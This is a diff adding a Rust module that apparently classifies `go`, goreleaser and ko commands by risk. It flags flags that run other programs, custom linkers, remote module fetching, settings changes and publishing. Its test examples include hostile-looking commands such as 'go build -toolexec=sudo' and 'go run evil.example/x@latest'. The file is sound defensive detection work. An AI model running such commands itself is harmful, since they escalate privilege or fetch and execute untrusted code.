@@ -1,0 +1,148 @@
+//! `go` and the tools around it.
+
+use super::registries::{FOR_USER, PUBLISHES};
+use crate::effect::Effect;
+use crate::reader::Value;
+use crate::registry::{
+    At, Does, Expect, Otherwise, Parsed, Program, Rule, Subcommand, Syntax, When, always, plain, when,
+};
+
+const SYNTAX: Syntax = Syntax {
+    flags: "-a -n -race -msan -asan -v -work -x -cover -linkshared -modcacherw -trimpath -json -c -i -t -u -d -m -e -benchmem \
+            -short -failfast -fullpath -artifacts -compiled -deps -export -find -test -versions -retracted \
+            -h|-help -fix -all -src -cmd -w -changed -diff",
+    valued: "-C -o -p -exec -toolexec -vettool -overlay -ldflags -gcflags -asmflags -gccgoflags -mod -modfile -pkgdir -tags -buildmode \
+             -buildvcs -compiler -covermode -coverpkg -coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace \
+             -outputdir -run -skip -bench -benchtime -blockprofilerate -count -cpu -fuzz -fuzztime -fuzzminimizetime -list \
+             -memprofilerate -mutexprofilefraction -parallel -shuffle -timeout -vet -f -reuse -installsuffix -pgo -tool -go",
+    ..Syntax::SINGLE
+};
+
+/// Options of every subcommand that builds.
+const BUILDS: &[Rule] = &[
+    when(
+        &[When::Has("-toolexec -exec -vettool -overlay -pkgdir -gccgoflags -modfile")],
+        Does::Hides("`go` with programs or files of its own choice"),
+    ),
+    always(Does::RunsLine(At::Value("-toolexec"))),
+    always(Does::RunsLine(At::Value("-exec"))),
+    always(Does::RunsLine(At::Value("-vettool"))),
+    always(Does::By(linker)),
+    always(Does::Writes(At::Value(
+        "-o -coverprofile -cpuprofile -memprofile -blockprofile -mutexprofile -trace -outputdir",
+    ))),
+];
+
+pub(super) static ALL: &[Program] = &[
+    Program {
+        names: &["go", "tinygo", "garble"],
+        is_family: true,
+        syntax: SYNTAX,
+        folder: "-C",
+        rules: BUILDS,
+        subcommands: &[
+            Subcommand {
+                names: &["run"],
+                syntax: Syntax::LEADING,
+                rules: &[always(Does::By(from_elsewhere))],
+                ..Subcommand::NEW
+            },
+            Subcommand { names: &["install"], rules: &[always(FOR_USER)], ..Subcommand::NEW },
+            Subcommand {
+                names: &["env"],
+                rules: &[when(&[When::Has("-w -u")], Does::Hides("settings of `go` that later calls obey"))],
+                ..Subcommand::NEW
+            },
+            Subcommand {
+                names: &["tool"],
+                syntax: Syntax::LEADING,
+                rules: &[always(Does::By(tool))],
+                ..Subcommand::NEW
+            },
+            plain(&["build"]),
+            plain(&["test"]),
+        ],
+        plain: "bug clean doc fix fmt generate get help list mod telemetry version vet work",
+        otherwise: Otherwise::Opaque("no command of it that is known"),
+        builds: true,
+        examples: &[
+            ("go build -toolexec=sudo", Expect::Runs("sudo")),
+            ("go build -toolexec sudo ./...", Expect::Runs("sudo")),
+            ("go test -exec sudo", Expect::Runs("sudo")),
+            ("go test --exec=sudo ./...", Expect::Runs("sudo")),
+            ("go vet -vettool=./x", Expect::Runs("./x")),
+            ("go build -overlay x", Expect::Opaque("of its own choice")),
+            ("go build -ldflags='-extld=./x'", Expect::Opaque("a linker")),
+            ("go run evil.example/x@latest", Expect::Opaque("code from elsewhere")),
+            ("go install x@latest", Expect::Asks("outside of the workspace")),
+            ("go env -w GOPROXY=x", Expect::Opaque("settings of `go`")),
+            ("go build -o x .", Expect::Writes("x")),
+            ("go -C sub build -o x", Expect::Writes("sub/x")),
+            ("go test -coverprofile x ./...", Expect::Writes("x")),
+            ("go frob", Expect::Opaque("no command of it")),
+            ("go test ./... -run TestX -v", Expect::Plain),
+            ("go build -ldflags='-s -w -X main.v=1' ./...", Expect::Plain),
+            ("go run . -exec x", Expect::Plain),
+            ("go vet ./...", Expect::Plain),
+            ("go mod tidy", Expect::Plain),
+            ("go env GOPATH", Expect::Plain),
+        ],
+        ..Program::NEW
+    },
+    Program {
+        names: &["goreleaser", "ko"],
+        is_family: true,
+        syntax: Syntax {
+            flags: "--snapshot --clean -h|--help --debug --verbose --local|-L",
+            valued: "-f|--config --skip -p|--parallelism",
+            ..Syntax::EXACT
+        },
+        subcommands: &[
+            Subcommand {
+                names: &["release", "publish", "continue", "announce"],
+                group: true,
+                rules: &[when(&[When::Lacks("--snapshot --help")], PUBLISHES)],
+                ..Subcommand::NEW
+            },
+            Subcommand {
+                names: &["apply", "create", "delete", "run", "resolve"],
+                group: true,
+                rules: &[always(PUBLISHES)],
+                ..Subcommand::NEW
+            },
+        ],
+        examples: &[
+            ("goreleaser release", Expect::Asks("publishes")),
+            ("goreleaser release --snapshot", Expect::Plain),
+            ("goreleaser check", Expect::Plain),
+            ("ko apply -f x", Expect::Asks("publishes")),
+        ],
+        ..Program::NEW
+    },
+];
+
+/// Flags for the linker that name another one.
+fn linker(parsed: &Parsed<'_>) -> Vec<Effect> {
+    let names = |flags: &Value| {
+        flags.text.contains("extld")
+            || flags.text.contains("extar")
+            || flags.text.contains("plugin")
+            || !flags.is_exact && flags.text.starts_with('$')
+    };
+    let own = parsed.values("-ldflags").any(names);
+    own.then(|| Effect::hidden("a linker of one's own choice")).into_iter().collect()
+}
+
+/// `go run MODULE@VERSION` fetches what it runs.
+fn from_elsewhere(parsed: &Parsed<'_>) -> Vec<Effect> {
+    let fetched = parsed.operand(0).is_some_and(|package| package.text.contains('@'));
+    fetched.then(|| Effect::hidden("code from elsewhere")).into_iter().collect()
+}
+
+/// `go tool NAME …`: tools that start others by their options.
+fn tool(parsed: &Parsed<'_>) -> Vec<Effect> {
+    let name = parsed.operand(0).map(|word| word.text.as_str()).unwrap_or_default();
+    let is_own = |arg: &Value| arg.text.contains("extld") || arg.text.contains("toolexec") || arg.text.contains('@');
+    let odd = name == "link" && parsed.from(1).iter().any(is_own) || name.contains('@');
+    odd.then(|| Effect::hidden("a linker of one's own choice")).into_iter().collect()
+}
